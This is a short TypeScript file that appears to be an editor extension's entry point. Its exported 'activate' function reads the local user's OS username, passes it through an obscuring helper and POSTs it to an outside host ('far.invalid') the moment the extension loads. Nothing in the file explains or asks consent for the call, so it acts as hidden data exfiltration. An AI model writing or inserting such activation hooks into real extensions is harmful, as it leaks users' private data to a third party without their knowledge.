import * as os from 'os';
const name = () => os.userInfo().username;
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

function carry() { let a: any = {}; a.x ??= name(); a.y ||= a.x; return a.y; }

export async function activate() {
  send(carry());
}
